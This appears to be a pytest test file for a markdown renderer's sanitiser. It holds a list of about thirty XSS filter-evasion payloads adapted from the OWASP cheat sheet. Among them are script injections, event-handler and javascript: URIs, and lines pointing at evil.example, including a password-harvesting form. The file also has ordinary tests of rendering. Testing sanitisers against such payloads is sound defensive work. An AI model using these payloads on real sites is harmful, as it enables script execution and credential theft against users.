"""Markdown, and what is left of the HTML in it."""

import re

import pytest

from conduit.markdown import render_markdown

# After https://cheatsheetseries.owasp.org/cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.html
ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<<script>alert(1)//<</script>",
    "<img src=x onerror=alert(1)>",
    '<img """><script>alert(1)</script>">',
    "<img src='javascript:alert(1)'>",
    "<img src=`javascript:alert(1)`>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href=" &#14; javascript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    '![x](x "onerror=alert(1)")',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<form action=https://evil.example><input name=password><button>x</button></form>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<p style='background:url(javascript:alert(1))' class=x id=y onclick=alert(1)>x</p>",
    "<details open ontoggle=alert(1)>x</details>",
    "```html\n<script>alert(1)</script>\n```",
]
ELEMENT = re.compile(r"<[^>]*>")


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_leaves_only_harmless_elements(attack: str) -> None:
    elements = " ".join(ELEMENT.findall(render_markdown(attack))).lower()

    assert not re.search(r"script|<(svg|math|style|iframe|object|embed|form|input)", elements)
    assert not re.search(r"<(base|meta|link|button|details|noscript)", elements)
    assert not re.search(r"\s(on\w+|style|class|id|action|formaction)=", without_titles(elements))
    assert not re.search(r"(href|src)=\"?\s*(javascript|data|vbscript):", elements)


def without_titles(elements: str) -> str:
    """The elements without what is only text: titles and descriptions of images."""
    return re.sub(r"(title|alt)=\"[^\"]*\"", "", elements)


def test_a_link_says_that_nobody_vouches_for_it() -> None:
    link = '<a href="https://x.example" rel="nofollow noopener">x</a>'

    assert link in render_markdown("[x](https://x.example)")
    assert link in render_markdown('<a href="https://x.example" rel="opener" target="_top">x</a>')


def test_headings_begin_below_that_of_the_page() -> None:
    html = render_markdown("# A\n\n## B\n\n###### F\n\nSetext\n===\n\n<h1>x</h1>")

    for heading in ("<h2>A</h2>", "<h3>B</h3>", "<h4>F</h4>", "<h2>Setext</h2>"):
        assert heading in html
    assert "<h1>" not in html


def test_tables_and_strikethrough_are_understood() -> None:
    html = render_markdown("| a | b |\n|---|---|\n| 1 | ~~2~~ |")

    assert "<th>a</th>" in html
    assert "<td><s>2</s></td>" in html


def test_the_usual_is_rendered_and_text_is_escaped() -> None:
    html = render_markdown('*a* **b** `c<d` 1 < 2 & "q"\n\n![i](/assets/x.svg)\n\n> q\n\n3. n')

    for part in (
        *("<em>a</em>", "<strong>b</strong>", "<code>c&lt;d</code>", "1 &lt; 2 &amp; "),
        *('<img src="/assets/x.svg" alt="i">', "<blockquote>", '<ol start="3">'),
    ):
        assert part in html


@pytest.mark.parametrize("text", ["", " ", "\0", "[" * 5000, ">" * 5000, "*a " * 5000, "`" * 9999])
def test_no_text_is_too_odd(text: str) -> None:
    assert isinstance(str(render_markdown(text)), str)
